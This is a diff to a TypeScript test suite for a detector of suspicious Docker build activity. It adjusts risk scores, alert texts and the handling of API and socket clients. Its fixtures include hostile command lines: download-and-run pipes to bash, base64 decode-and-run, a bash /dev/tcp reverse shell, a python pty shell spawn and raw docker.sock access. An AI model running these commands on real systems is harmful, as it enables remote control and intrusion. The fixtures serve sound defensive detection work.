@@ -249,7 +249,7 @@ describe('external_file', () => {
     ['docker build -f HTTP://X/Dockerfile .', 'remote Dockerfile: HTTP://X/Dockerfile'],
     [
       'buildctl build --frontend dockerfile.v0 --opt context=https://github.com/o/r.git',
-      'remote context: --opt context=https://github.com/o/r.git',
+      'remote context (--opt): https://github.com/o/r.git',
     ],
     [
       '/kaniko/executor --context=git://github.com/o/r.git --destination=r/x',
@@ -273,16 +273,17 @@ describe('external_file', () => {
 
 describe('stdin_dockerfile', () => {
   it.each([
-    ['docker build -t x - < /home/u/Dockerfile', 'Dockerfile/context from stdin: - < /home/u/Dockerfile'],
+    ['docker build -t x -', 'Dockerfile/context from stdin: -'],
     ['docker build -f - .', 'Dockerfile from stdin: -f -'],
     ['docker build -f- .', 'Dockerfile from stdin: -f-'],
     ['docker build --file=- .', 'Dockerfile from stdin: --file=-'],
-    ["sh -c 'base64 -d /home/u/b64 | docker build -t x -'", 'Dockerfile/context from stdin: -'],
   ])('fires: %s', (line, reason) => {
     const d = detect(ev(line, { process_current_directory: '/home/u' }));
     expect(d.stdin_dockerfile).toBe(1);
     expect(d.t1612_reasons).toContain(reason);
-    expect(d.risk_score).toBeGreaterThanOrEqual(2);
+    // a Dockerfile on stdin alone (heredoc in CI, `docker build - < Dockerfile`) is not an alert
+    expect(d.risk_score).toBe(1);
+    expect(d.alert_detail).toBeUndefined();
   });
   it('a stdin Dockerfile redirected from /tmp is also from_temp', () => {
     const d = detect(ev("sh -c 'docker build - < /tmp/x/Dockerfile'", { process_current_directory: '/home/u' }));
@@ -305,29 +306,41 @@ describe('suspicious_parent (exact basenames, never substrings)', () => {
       }),
     );
   it.each([
-    ['bash /opt/deploy.sh', undefined],
-    ['/bin/sh -c docker build -t web:1.4 .', undefined],
-    ['bash -ec "docker build -t web:1.4 ."', undefined],
-    ['curl -s http://x/i.sh | bash -s', undefined],
-    ['python3 /opt/app/build.py', 'python3'],
-    ['/usr/bin/python3.11 x.py', undefined],
-    ['perl -e system("docker build .")', undefined],
-    ['php-fpm: pool www', 'php-fpm7.4'],
-    ['nginx: worker process', 'nginx'],
-    ['java -jar app.jar', 'java'],
-    ['node server.js', undefined],
-    ['wget -O- http://x', undefined],
-    ['su app -c "docker build ."', undefined],
-    ['cmd.exe /c build.cmd', 'C:\\Windows\\System32\\cmd.exe'],
+    ['curl -s http://x/i.sh | bash -s', undefined, 'download-and-run'],
+    ['bash -c "wget -qO- http://x/a | sh"', undefined, 'download-and-run'],
+    ['sh -c "echo ZG9ja2Vy | base64 -d | sh"', undefined, 'decode-and-run'],
+    ['bash -c "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"', undefined, 'reverse shell'],
+    ['python3 -c "import socket,os,pty;s=socket.socket();pty.spawn(\'/bin/sh\')"', undefined, 'reverse shell'],
+    ['php-fpm: pool www', 'php-fpm7.4', 'server process'],
+    ['nginx: worker process', 'nginx', 'server process'],
     [
-      'powershell.exe -EncodedCommand ZABvAGMAawBlAHIA',
-      'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
+      '/opt/tomcat/bin/java -Dcatalina.base=/opt/tomcat org.apache.catalina.startup.Bootstrap start',
+      'java',
+      'server process',
     ],
-  ])('fires: parent %s (%s)', (p, n) => {
+    ['bash /tmp/.x/run.sh', undefined, 'script in /tmp'],
+    ['/dev/shm/.k/launch', undefined, 'launcher in /dev/shm'],
+    ['python3 /var/tmp/b.py', 'python3', 'script in /var/tmp'],
+  ])('fires: parent %s (%s)', (p, n, what) => {
     const d = withParent(p, n);
     expect(d.suspicious_parent).toBe(1);
+    expect(d.t1612_reasons[0]).toContain(what);
     expect(d.risk_score).toBe(2);
     expect(d.alert_detail).toBe('LOW: Suspicious docker build pattern');
+  });
+  it.each([
+    ['bash /opt/deploy.sh', undefined],
+    ['/bin/sh -c docker build -t web:1.4 .', undefined],
+    ['python3 /opt/app/build.py', 'python3'],
+    ['node /usr/lib/node_modules/npm/bin/npm-cli.js run docker:build', 'node'],
+    ['su app -c "docker build ."', undefined],
+    ['cmd.exe /c build.cmd', 'C:\\Windows\\System32\\cmd.exe'],
+    ['/home/runner/actions-runner/bin/Runner.Worker spawnclient 110 113', 'Runner.Worker'],
+    ['/bin/sh -xe /tmp/jenkins4423845712.sh', 'sh'],
+  ])('an ordinary script, build tool or CI runner is not suspicious: parent %s (%s)', (p, n) => {
+    const d = withParent(p, n);
+    expect(d.suspicious_parent).toBe(0);
+    expect(d.alert_detail).toBeUndefined();
   });
   it.each([
     ['-bash', undefined],
@@ -364,11 +377,15 @@ describe('API builds', () => {
     ],
     ['curl -X POST http://10.0.0.5:2375/build?remote=https://evil/x.git', 8],
     ['curl -X POST 10.0.0.5:2376/v1.41/build', 4],
+    ['curl -X POST http://10.0.0.5:4243/build', 4],
     ['curl -T /tmp/ctx.tar https://dockerhost.example/v1.41/build?t=x', 7],
-    ['socat - UNIX-CONNECT:/var/run/docker.sock', 4],
-    ['nc -U /var/run/docker.sock', 4],
-    ['ncat 10.0.0.5 2375', 4],
-    ['sh -c \'echo -e "POST /v1.41/build HTTP/1.1\\r\\n" | socat - UNIX-CLIENT:/var/run/docker.sock\'', 6],
+    ['curl -X POST http://10.0.0.5:2375/session', 4],
+    ['sh -c \'echo -e "POST /v1.41/build HTTP/1.1\\r\\n" | socat - UNIX-CLIENT:/var/run/docker.sock\'', 4],
+    ["python3 -c \"import docker; docker.from_env().images.build(path='/tmp/b', tag='x')\"", 7],
+    [
+      'powershell.exe -c "Invoke-WebRequest -Uri http://10.0.0.5:2375/build?t=x -Method Post -InFile C:\\Users\\u\\AppData\\Local\\Temp\\c.tar"',
+      7,
+    ],
   ])('fires: %s (risk %d)', (line, risk) => {
     const d = detect(ev(line, { process_current_directory: '/home/u' }));
     expect(d.t1612_activity).toBe('api_build');
@@ -388,6 +405,7 @@ describe('API builds', () => {
   });
   it.each([
     'curl --unix-socket /var/run/docker.sock http://localhost/v1.41/containers/json',
+    'curl --unix-socket /var/run/docker.sock http://localhost/v1.41/build',
     'curl --unix-socket /var/run/docker.sock -X POST http://localhost/v1.41/build/prune',
     'curl https://example.com/build',
     'curl http://10.0.0.5:8080/build',
@@ -396,7 +414,18 @@ describe('API builds', () => {
     'wget https://example.com/v1/build',
   ])('does not fire: %s', (line) => expect(detect(ev(line)).api_build).toBe(0));
 
-  it('auditd socket connect to docker.sock: by a non-docker executable fires, by docker/dockerd/buildx does not', () => {
+  it.each([
+    ['socat - UNIX-CONNECT:/var/run/docker.sock', 'api_connect', 1],
+    ['nc -U /var/run/docker.sock', 'api_connect', 1],
+    ['ncat 10.0.0.5 2375', 'api_tcp_connect', 2],
+  ])('raw socket clients are API clients, not builds: %s', (line, signal, risk) => {
+    const d = detect(ev(line));
+    expect(d.t1612_activity).toBe('api_client');
+    expect(d[signal as 'api_connect']).toBe(1);
+    expect(d.risk_score).toBe(risk);
+  });
+
+  it('auditd socket connect to docker.sock by a non-docker executable is an API client (no alert alone); by docker it is nothing', () => {
     const sock = (process_path: string, process_name: string): ModelEvent => ({
       t1612_source: 't',
       event_kind: 'socket_connect',
@@ -404,10 +433,19 @@ describe('API builds', () => {
       process_path,
       process_name,
     });
-    expect(detect(sock('/usr/bin/python3.11', 'python3')).api_build).toBe(1);
-    expect(detect(sock('/tmp/.x/kdevtmpfsi', 'kdevtmpfsi')).t1612_reasons).toEqual([
-      'docker.sock connect by non-docker client /tmp/.x/kdevtmpfsi: /var/run/docker.sock',
+    const py = detect(sock('/usr/bin/python3.11', 'python3'));
+    expect([py.t1612_activity, py.api_connect, py.risk_score, py.alert_detail]).toEqual([
+      'api_client',
+      1,
+      1,
+      undefined,
     ]);
+    const x = detect(sock('/tmp/.x/kdevtmpfsi', 'kdevtmpfsi'));
+    expect(x.t1612_reasons).toEqual([
+      'docker.sock connect by non-docker client /tmp/.x/kdevtmpfsi: /var/run/docker.sock',
+      'kdevtmpfsi runs from /tmp: /tmp/.x/kdevtmpfsi',
+    ]);
+    expect(x.alert_detail).toBe('HIGH: Image builder run from a writable folder');
     for (const [p, n] of [
       ['/usr/bin/docker', 'docker'],
       ['/usr/sbin/dockerd', 'exe'],
@@ -426,7 +464,7 @@ describe('API builds', () => {
     ).toBe('none');
   });
 
-  it('dockerd POST /v<N>/build fires; /build/prune, GET /build and /session do not', () => {
+  it('dockerd POST /v<N>/build is corroboration (daemon_build); remote= still alerts; /build/prune, GET and /session are nothing', () => {
     const api = (m: string, p: string, q?: string): ModelEvent => ({
       t1612_source: 't',
       event_kind: 'docker_api',
@@ -435,19 +473,20 @@ describe('API builds', () => {
       docker_api_query: q,
     });
     const d = detect(api('POST', '/v1.41/build', 't=x&remote=http%3A%2F%2F127.0.0.1%3A9%2FDockerfile'));
-    expect([d.api_build, d.external_file, d.risk_score]).toEqual([1, 1, 8]);
+    expect([d.daemon_build, d.external_file, d.risk_score]).toEqual([1, 1, 5]);
     expect(d.t1612_reasons).toEqual([
       'remote context (API remote=): http://127.0.0.1:9/Dockerfile',
       'dockerd build request: POST /v1.41/build?t=x&remote=http%3A%2F%2F127.0.0.1%3A9%2FDockerfile',
     ]);
     expect(d.CommandLine).toBe('POST /v1.41/build?t=x&remote=http%3A%2F%2F127.0.0.1%3A9%2FDockerfile');
-    expect(detect(api('POST', '/build')).api_build).toBe(1);
+    const plain = detect(api('POST', '/build'));
+    expect([plain.daemon_build, plain.risk_score, plain.alert_detail]).toEqual([1, 1, undefined]);
     expect(detect(api('POST', '/v1.41/build/prune', 'filters=')).t1612_activity).toBe('none');
     expect(detect(api('GET', '/v1.41/build')).t1612_activity).toBe('none');
     expect(detect(api('POST', '/session')).t1612_activity).toBe('none');
   });
 
-  it('network connection to 2375 by a non-docker process fires; by docker.exe does not', () => {
+  it('network connection to a plain API port by a non-docker process alerts; TLS 2376 does not; docker.exe is nothing', () => {
     const net = (p: string, port: string): ModelEvent => ({
       t1612_source: 't',
       event_kind: 'network',
@@ -455,9 +494,13 @@ describe('API builds', () => {
       dest_ip: '10.0.0.5',
       dest_port: port,
     });
-    expect(detect(net('/usr/bin/python3', '2375')).api_build).toBe(1);
-    expect(detect(net('C:\\Program Files\\Docker\\docker.exe', '2375')).api_build).toBe(0);
-    expect(detect(net('/usr/bin/python3', '443')).api_build).toBe(0);
+    expect(detect(net('/usr/bin/python3', '2375')).alert_detail).toBe(
+      'MEDIUM: Plain-text Docker API port used by a non-docker client',
+    );
+    expect(detect(net('/usr/bin/python3', '4243')).api_tcp_connect).toBe(1);
+    expect(detect(net('/usr/bin/python3', '2376')).alert_detail).toBeUndefined();
+    expect(detect(net('C:\\Program Files\\Docker\\docker.exe', '2375')).t1612_activity).toBe('none');
+    expect(detect(net('/usr/bin/python3', '443')).t1612_activity).toBe('none');
   });
 });
 
@@ -556,20 +599,20 @@ describe('scoring, alert texts, options', () => {
     expect(detect(ev('docker build /tmp/x')).alert_detail).toBe('MEDIUM: Dockerfile in temporary directory');
     expect(() => makeDetectOptions({ weights: { api_build: Number.NaN } })).toThrow();
   });
-  it('new signals alone: api_build alerts by itself; socket_mount, privileged_run and stdin too at the default threshold', () => {
-    expect(detect(ev('socat - UNIX-CONNECT:/var/run/docker.sock')).alert_detail).toBe(
+  it('new signals alone: api_build, socket_mount, privileged_run alert; stdin alone does not', () => {
+    expect(detect(ev('curl -X POST http://h:2375/build')).alert_detail).toBe(
       'HIGH: Image build sent straight to the Docker API',
     );
-    expect(detect(ev('docker build -f - /srv/app')).alert_detail).toBe('MEDIUM: Dockerfile read from stdin');
-    expect(detect(ev('docker build -f - /srv/app', { parent_process: 'python3 x.py' })).alert_detail).toBe(
+    expect(detect(ev('docker build -f - /srv/app')).alert_detail).toBeUndefined();
+    expect(detect(ev('docker build -f - /srv/app', { parent_process: 'nginx: worker process' })).alert_detail).toBe(
       'HIGH: Dockerfile piped from stdin by shell/script',
     );
     expect(detect(ev('docker run --privileged x')).alert_detail).toBe(
       'HIGH: Privileged container run with host access',
     );
   });
-  it('a no-cache build from a script gets the seed text; --no-cache alone does not alert', () => {
-    expect(detect(ev('docker build --no-cache /srv/app', { parent_process: 'bash ci.sh' })).alert_detail).toBe(
+  it('a no-cache build from a suspicious launcher gets the seed text; --no-cache alone does not alert', () => {
+    expect(detect(ev('docker build --no-cache /srv/app', { parent_process: 'bash /tmp/ci.sh' })).alert_detail).toBe(
       'MEDIUM: No-cache build from suspicious parent',
     );
     expect(detect(ev('docker build --no-cache /srv/app')).alert_detail).toBeUndefined();
